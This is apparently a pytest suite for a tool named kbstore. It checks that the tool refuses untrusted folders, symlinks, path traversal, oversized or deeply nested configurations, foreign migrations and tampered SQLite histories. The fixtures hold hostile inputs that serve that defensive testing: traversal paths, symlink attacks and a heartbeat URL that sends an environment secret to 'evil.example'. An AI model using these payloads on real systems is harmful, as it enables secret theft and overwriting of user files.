"""A folder of somebody else is not obeyed, and the user's own needs no trust."""

import json
import os
import shutil
import sqlite3
from collections.abc import Callable
from pathlib import Path

import pytest

from kbstore.health.config import load
from kbstore.health.errors import StateError
from kbstore.health.state import State
from kbstore.kit import trust
from kbstore.worktree.project import LARGEST_STATE_BYTES, Config, FileState, Project, ProjectError, read_state
from tests.cases.support import Desk

NOBODY = 65534
as_root = pytest.mark.skipif(getattr(os, "geteuid", lambda: 1)() != 0, reason="only root can give files away")


@pytest.fixture
def desk(tmp_path: Path) -> Desk:
    """The user's own folder, with a store of one version."""
    desk = Desk(tmp_path / "desk")
    desk.write({"a": {"x": 1}})
    desk.ok("init", "kb.json")
    return desk


def give_away(desk: Desk) -> None:
    """Make the folder and all in it somebody else's."""
    for path in (desk.folder, *desk.folder.rglob("*")):
        os.chown(path, NOBODY, -1)


def open_parent(desk: Desk) -> None:
    """Let everybody write the folder above."""
    desk.folder.parent.chmod(0o777)


def open_config(desk: Desk) -> None:
    """Let everybody write the configuration."""
    (desk.folder / ".kbstore" / "config.json").chmod(0o666)


FOREIGN = [pytest.param(give_away, marks=as_root), open_parent, open_config]


@pytest.mark.parametrize("how", FOREIGN)
def test_a_project_of_somebody_else_is_refused_until_it_is_trusted(desk: Desk, how: Callable[[Desk], None]) -> None:
    """The error names the folder and one command; that command, or the variable, makes it work."""
    how(desk)
    for command in (["log"], ["checkout", "v1", "--force"], ["--file", "kb.json", "status"], ["--store", ".", "log"]):
        ended = desk.run(*command)
        assert ended.code == 3
        assert f"kbstore trust {desk.folder}" in ended.err
    assert desk.run("log", env={"KBSTORE_TRUST": f"/nowhere{os.pathsep}{desk.folder}"}).code == 0
    desk.ok("trust", str(desk.folder))
    assert desk.ok("trust").lines == [str(desk.folder)]
    desk.ok("log")
    desk.ok("trust", "--remove", str(desk.folder))
    assert desk.run("log").code == 3


def test_a_command_that_names_its_places_passes_over_a_foreign_configuration(desk: Desk) -> None:
    """So a store can be looked at before its folder is trusted; nothing that the configuration says is done."""
    config = desk.folder / ".kbstore" / "config.json"
    config.write_text(json.dumps({**json.loads(config.read_text()), "branch": "none", "collection": "/none"}))
    open_config(desk)
    store = ".kbstore/kb.db"
    for command in (["--store", store, "verify"], ["clone", store, "mine.db"], ["diff", "kb.json", "kb.json"]):
        ended = desk.run(*command)
        assert (ended.code, ended.err.count("it was passed over")) == (0, 1), ended
    assert desk.run("--store", store, "--file", "kb.json", "status").code == 3


def test_the_users_own_folder_below_a_sticky_one_needs_no_trust(desk: Desk) -> None:
    """As in /tmp, where everybody may write and nobody can move what is another's."""
    desk.folder.parent.chmod(0o1777)
    desk.ok("log")


def test_a_store_that_is_named_is_not_asked_about(desk: Desk, tmp_path: Path) -> None:
    """Whoever names the file of a store has made up their mind."""
    open_config(desk)
    elsewhere = Desk(tmp_path / "elsewhere")
    elsewhere.ok("--store", str(desk.folder / ".kbstore" / "kb.db"), "log")


@pytest.mark.parametrize("file", ["../victim.json", "/tmp/victim.json", "a/../../victim.json", ".", "link.json"])
def test_the_file_stays_in_its_folder(desk: Desk, file: str) -> None:
    """A project that came from elsewhere writes nothing beside itself, by name or by link."""
    victim = desk.folder.parent / "victim.json"
    victim.write_text("mine")
    (desk.folder / "link.json").symlink_to(victim)
    config = desk.folder / ".kbstore" / "config.json"
    config.write_text(json.dumps({**json.loads(config.read_text()), "file": file}))
    assert desk.run("checkout", "v1", "--force").code == 3
    assert victim.read_text() == "mine"


@pytest.mark.parametrize("name", ["newest.json", "config.json", "files", "lost"])
def test_nothing_is_written_through_a_link_in_the_folder(desk: Desk, name: str) -> None:
    """A project that came from elsewhere overwrites no file of the user, whatever is read or written."""
    victim = desk.folder.parent / "victim"
    place = desk.folder / ".kbstore" / name
    if name in ("files", "lost"):
        shutil.rmtree(place, ignore_errors=True)
        victim.mkdir()
    else:
        victim.write_bytes(place.read_bytes() if name == "config.json" else b"mine")
        place.unlink(missing_ok=True)
    before = victim.is_file() and victim.read_bytes()
    place.symlink_to(victim)
    desk.run("log")
    desk.write({"a": {"x": 2}})
    for command in (["checkout", "v1", "--force"], ["commit", "-m", "x"], ["mv", "kb.json", "new.json"]):
        ended = desk.run(*command)
        assert "bug" not in ended.err
    assert place.is_symlink()
    assert before == victim.read_bytes() if victim.is_file() else not list(victim.iterdir())


DEEP = "[" * 100_000 + "]" * 100_000
HOSTILE = [
    (".kbstore/config.json", '{"x":' + DEEP + "}"),
    ("health.toml", "a=" + DEEP),
    ("health.toml", ".".join(["a"] * 3_000) + "=1"),
    ("health.toml", "a=" + "9" * 5000),
    ("health.toml", "#" * (trust.LARGEST_BYTES + 1)),
    (".kbstore/config.json", " " * (trust.LARGEST_BYTES + 1)),
]


@pytest.mark.parametrize(("name", "text"), HOSTILE, ids=range(len(HOSTILE)))
def test_a_hostile_configuration_is_malformed_or_too_large(desk: Desk, name: str, text: str) -> None:
    """No depth, number or size ends in a bug."""
    (desk.folder / name).write_text(text)
    told = [desk.health("list").err] + ([desk.run("log").err] if name.startswith(".") else [])
    for err in told:
        assert "malformed" in err or "larger than 1 MiB" in err
        assert Path(name).name in err


def test_a_deep_list_of_what_is_trusted_is_malformed(tmp_path: Path) -> None:
    """The error names the file."""
    file = tmp_path / "kbstore" / "trust.toml"
    file.parent.mkdir()
    for text in ("folders=" + DEEP, "x=" + "9" * 5000):
        file.write_text(text)
        with pytest.raises(trust.Untrusted, match=r"trust\.toml is malformed"):
            trust.load({"XDG_CONFIG_HOME": str(tmp_path)})


@pytest.mark.parametrize("store", ["../../victim/.kbstore/kb.db", "kb.db"])
def test_the_store_stays_in_its_folder(desk: Desk, store: str) -> None:
    """A project that came from elsewhere commits nothing into another store of the user, by name or by link."""
    victim = Desk(desk.folder.parent / "victim")
    victim.write({"v": 1})
    victim.ok("init", "kb.json")
    folder = desk.folder / ".kbstore"
    shutil.rmtree(folder)
    folder.mkdir()
    (folder / "config.json").write_text(json.dumps({"format": 1, "file": "kb.json", "store": store}))
    if store == "kb.db":
        (folder / store).symlink_to(victim.folder / ".kbstore" / "kb.db")
    desk.write({"v": "evil"})
    ended = desk.run("commit", "-m", "evil")
    assert ended.code == 3
    assert f"kbstore trust {desk.folder}" in ended.err
    assert len(victim.ok("log", "--oneline").lines) == 1
    assert desk.run("log", env={"KBSTORE_TRUST": str(desk.folder)}).code == 0


@pytest.mark.parametrize("option", ["endpoint=https://192.0.2.1", "profile=work", "cache=/srv/x"])
def test_a_projects_url_that_chooses_a_server_is_trusted_once(desk: Desk, option: str) -> None:
    """A folder of one's own may still be a copy of somebody's: no credentials go to its server before a word."""
    url = f"s3://bucket/kb?{option}&connect_timeout=0.05&timeout=0.1"
    config = desk.folder / ".kbstore" / "config.json"
    config.write_text(json.dumps({**json.loads(config.read_text()), "store": url}))
    ended = desk.run("log")
    assert ended.code == 3
    assert "kbstore trust s3:" in ended.err.replace("'", "")
    desk.ok("trust", url)
    assert "trust" not in desk.run("log", env={"AWS_ACCESS_KEY_ID": "x", "AWS_SECRET_ACCESS_KEY": "x"}).err


@pytest.mark.parametrize("how", FOREIGN)
def test_health_runs_nothing_of_somebody_elses_configuration(desk: Desk, how: Callable[[Desk], None]) -> None:
    """Neither its commands nor its plug-ins, nor is a variable sent; a project of somebody else is refused as well."""
    assert desk.health("list").code == 0
    how(desk)
    ended = desk.health("list")
    assert ended.code == 3
    assert f"kbstore trust {desk.folder}" in ended.err
    assert desk.health("list", KBSTORE_TRUST=str(desk.folder)).code == 0


def test_a_configuration_that_was_found_uses_no_variable_that_nobody_gave_it(desk: Desk) -> None:
    """A cloned folder is the user's own; still it may not send away any secret of the environment."""
    (desk.folder / "health.toml").write_text("[watch]\nheartbeat_url = 'http://evil.example/${MY_SECRET}'\n")
    ended = desk.health("list", MY_SECRET="s3cret")
    assert ended.code == 3
    assert "MY_SECRET" in ended.err
    assert "s3cret" not in ended.err
    assert desk.health("--config", "health.toml", "list", MY_SECRET="s3cret").code == 0
    assert desk.health("list", MY_SECRET="s3cret", KBSTORE_TRUST=str(desk.folder)).code == 0
    (desk.folder / "health.toml").write_text("[serve]\ntoken = '${HEALTH_TOKEN}'\n")
    assert desk.health("list", HEALTH_TOKEN="s3cret").code == 0


REMEDY = """
[targets]
store = "nothing.db"
[checks."store.reachable"]
remedy = ["./fix.sh"]
[remedies]
allow = ["store.reachable"]
"""


def put_fix(folder: Path) -> None:
    """Put a command into a folder that writes down that it ran, beside itself."""
    folder.mkdir(exist_ok=True)
    (folder / "fix.sh").write_text('#!/bin/sh\necho ran > "$(dirname "$0")/ran"\n')
    (folder / "fix.sh").chmod(0o755)


def test_a_remedy_runs_in_the_folder_of_the_configuration(desk: Desk) -> None:
    """Whoever owns the current folder, which is below, does not choose what runs."""
    (desk.folder / "health.toml").write_text(REMEDY)
    put_fix(desk.folder)
    put_fix(desk.folder / "uploads")
    here = Desk(desk.folder / "uploads")
    here.health("fix", "store.reachable")
    assert (desk.folder / "ran").exists()
    assert not (here.folder / "ran").exists()


@as_root
@pytest.mark.parametrize("through", ["", "between"])
def test_a_link_in_a_foreign_folder_is_refused(desk: Desk, through: str) -> None:
    """Also if it leads to a configuration that is the user's own, at once or by a link between."""
    other = Desk(desk.folder.parent / "other")
    for name, text in (("health.toml", REMEDY), ("001_a.sql", "CREATE TABLE t(a int);\n")):
        (desk.folder / name).write_text(text)
        (other.folder / name).symlink_to(desk.folder / name)
    (other.folder / ".kbstore").symlink_to(desk.folder / ".kbstore")
    put_fix(other.folder)
    for path in (other.folder, *other.folder.iterdir()):
        os.chown(path, NOBODY, -1, follow_symlinks=False)
    here = other
    if through:
        here = Desk(desk.folder.parent / through)
        for name in ("health.toml", ".kbstore"):
            (here.folder / name).symlink_to(other.folder / name)
    assert "kbstore trust" in here.health("fix", "store.reachable").err
    assert not (other.folder / "ran").exists()
    (here.folder / "kb.json").write_text("{}")
    ended = here.run("commit", "-m", "x")
    assert ended.code == 3
    assert f"kbstore trust {other.folder}" in ended.err
    assert here.run("log", env={"KBSTORE_TRUST": str(other.folder)}).code == 0


@as_root
@pytest.mark.parametrize("linked", [False, True])
def test_a_migration_of_somebody_else_in_a_folder_of_ones_own_does_not_run(desk: Desk, linked: bool) -> None:
    """Each file is asked about, and what it leads to."""
    (desk.folder / "migrations").mkdir()
    file = desk.folder / "migrations" / "001_a.sql"
    text = desk.folder / "kept.sql" if linked else file
    text.write_text("CREATE TABLE t(a int);\n")
    if linked:
        file.symlink_to(text)
    assert desk.migrator("status").code == 0
    os.chown(text, NOBODY, -1)
    ended = desk.migrator("up")
    assert ended.code == 1
    assert "kbstore trust" in ended.err


def test_migrations_of_somebody_else_do_not_run_unless_they_are_named(tmp_path: Path) -> None:
    """The folder that nobody named is looked at; one that was is not."""
    desk = Desk(tmp_path / "desk")
    (desk.folder / "migrations").mkdir()
    (desk.folder / "migrations" / "001_a.sql").write_text("CREATE TABLE t(a int);\n")
    (desk.folder / "migrations").chmod(0o777)

    ended = desk.migrator("up")
    assert ended.code == 1
    assert "kbstore trust" in ended.err
    assert not (desk.folder / "migrator.db").exists()
    assert desk.migrator("--dir", "migrations", "up").code == 0


def test_only_what_is_trusted_can_be_removed(tmp_path: Path) -> None:
    """Words and exit codes are true: a folder below a trusted one stays trusted, and a slip removes nothing."""
    desk = Desk(tmp_path / "srv")
    (desk.folder / "team").mkdir()
    desk.ok("trust", ".")
    below = desk.run("trust", "--remove", "team")
    assert (below.code, below.err.splitlines()) == (
        3,
        [f"error: team is trusted because {desk.folder} is", f"hint: kbstore trust --remove {desk.folder}"],
    )
    slip = desk.run("trust", "--remove", "taem", env={"KBSTORE_TRUST": "/none"})
    assert slip.code == 3
    assert desk.run("trust", "--remove", "../elsewhere").err.startswith("error: ../elsewhere is not trusted\n")
    assert desk.run("trust", "--remove", "s3://b/p?ca=x").code == 3
    by_environment = desk.run("trust", "--remove", "/opt", env={"KBSTORE_TRUST": "/opt"})
    assert "take it out of KBSTORE_TRUST" in by_environment.err
    desk.ok("trust", "team")
    assert "still trusted because" in desk.ok("trust", "--remove", "team").err
    assert desk.ok("trust", "--remove", ".").err == f"{desk.folder} is no longer trusted\n"
    assert desk.ok("trust").lines == []


@pytest.mark.parametrize("url", ["https://kb.example.com", "http://localhost:9000", "ftp://x", "sqlite://kb.db"])
def test_only_the_url_of_a_store_on_s3_is_trusted(tmp_path: Path, url: str) -> None:
    """No other is ever asked about, so trusting it would promise what it does not do."""
    desk = Desk(tmp_path / "desk")
    refused = desk.run("trust", url)
    assert (refused.code, refused.err.splitlines()[0]) == (
        3,
        f"error: {url} is not the URL of a store on S3, and no other needs trust",
    )
    assert desk.ok("trust").lines == []


def test_what_is_trusted_is_the_users_own_word(tmp_path: Path) -> None:
    """The file is private, holds odd names, and is not believed if everybody may write it."""
    environ = {"XDG_CONFIG_HOME": str(tmp_path / "config")}
    odd = tmp_path / 'a "b" \\ ü😀'
    odd.mkdir()
    trust.change(environ, str(odd))
    trust.change(environ, "s3://b/p?endpoint=https://x")
    file = tmp_path / "config" / "kbstore" / "trust.toml"
    assert file.stat().st_mode & 0o777 == 0o600
    known = trust.load(environ)
    assert known.covers(odd / "deep" / "health.toml")
    assert not known.covers(tmp_path / "a")
    assert known.urls == {"s3://b/p?endpoint=https://x"}
    file.chmod(0o666)
    with pytest.raises(trust.Untrusted, match="everybody may write it"):
        trust.load(environ)


def test_a_pipe_in_a_project_is_not_waited_for(tmp_path: Path) -> None:
    """What a project remembers may be lost, so whatever stands in its place counts as lost; so does what is huge."""
    project = Project.create(tmp_path, Config(file="kb.json"))
    file = tmp_path / "kb.json"
    project.remember(file, FileState(1, "0" * 64, "main", "x"))
    assert project.state_of(file) is not None
    (known,) = (tmp_path / ".kbstore" / "files").iterdir()
    known.unlink()
    os.mkfifo(known)
    assert project.state_of(file) is None
    known.unlink()
    with known.open("wb") as huge:
        huge.truncate(LARGEST_STATE_BYTES + 1)
    assert project.state_of(file) is None
    newest = tmp_path / ".kbstore" / "newest.json"
    os.mkfifo(newest)
    with pytest.raises(ProjectError, match="not a regular file"):
        read_state(newest, FileState)


def test_a_pipe_in_place_of_what_is_trusted_is_not_waited_for(tmp_path: Path) -> None:
    """It is refused by name."""
    place = tmp_path / "kbstore" / "trust.toml"
    place.parent.mkdir()
    os.mkfifo(place)
    with pytest.raises(trust.Untrusted, match="not a regular file"):
        trust.load({"XDG_CONFIG_HOME": str(tmp_path)})


def test_health_stays_in_the_folder_of_a_project(tmp_path: Path, desk: Desk) -> None:
    """It opens no store that the configuration leads out to, unless the folder is trusted."""
    config = desk.folder / ".kbstore" / "config.json"
    other = Desk(tmp_path / "other")
    other.write({"a": 1})
    other.ok("init", "kb.json")
    config.write_text(json.dumps({**json.loads(config.read_text()), "store": "../../other/.kbstore/kb.db"}))
    environ = {"XDG_CONFIG_HOME": str(tmp_path / "config"), "HOME": str(tmp_path)}
    with pytest.raises(trust.Untrusted, match="leads out of its folder"):
        load(desk.folder, environ)
    assert load(desk.folder, environ | {trust.VARIABLE: str(desk.folder)}).targets.store is not None


@pytest.mark.parametrize("link", ["health", "health/health.db", "health/watch.lock"])
def test_health_writes_through_no_link_of_a_project(tmp_path: Path, link: str) -> None:
    """Neither its history nor the file by which a watch is alone, of which it would lose the content."""
    folder = tmp_path / ".kbstore"
    victim = tmp_path / "victim"
    (folder / link).parent.mkdir(parents=True)
    victim.mkdir() if link == "health" else victim.write_text("kept")
    (folder / link).symlink_to(victim)
    state = State(folder / "health")
    with pytest.raises(StateError, match="is a link"):
        state.make_file("watch.lock" if "lock" in link else "health.db")
    if "lock" not in link:
        with pytest.raises(StateError, match="is a link"):
            state.facts()
    assert not any(victim.iterdir()) if victim.is_dir() else victim.read_text() == "kept"


@pytest.mark.parametrize(
    "sql",
    [
        "CREATE TRIGGER t AFTER INSERT ON rounds BEGIN INSERT INTO notes VALUES('x', 0, 'y'); END",
        "DROP TABLE notes; CREATE VIEW notes AS WITH RECURSIVE r AS (SELECT 1 UNION SELECT * FROM r) SELECT * FROM r",
        "DROP TABLE facts; CREATE TABLE facts(name, value, more)",
    ],
)
def test_a_history_of_health_with_another_schema_is_refused(tmp_path: Path, sql: str) -> None:
    """Nothing of it runs."""
    State(tmp_path / "health").facts()
    connection = sqlite3.connect(tmp_path / "health" / "health.db")
    connection.executescript(sql)
    connection.close()
    with pytest.raises(StateError, match="was not made by health"):
        State(tmp_path / "health").notes()


def test_a_history_of_health_with_odd_values_is_an_error_with_one_sentence(tmp_path: Path) -> None:
    """Any type may stand in any column."""
    state = State(tmp_path / "health")
    state.facts()
    connection = sqlite3.connect(tmp_path / "health" / "health.db")
    connection.execute("INSERT INTO facts VALUES('a', x'00')")
    connection.execute("INSERT INTO notes VALUES('a', 'soon', 1)")
    connection.execute("INSERT INTO results VALUES(1e300, 'a', 'nobody', '', '', 1, '{')")
    connection.commit()
    connection.close()
    for read in (state.facts, state.notes, state.history):
        with pytest.raises(StateError):
            read()
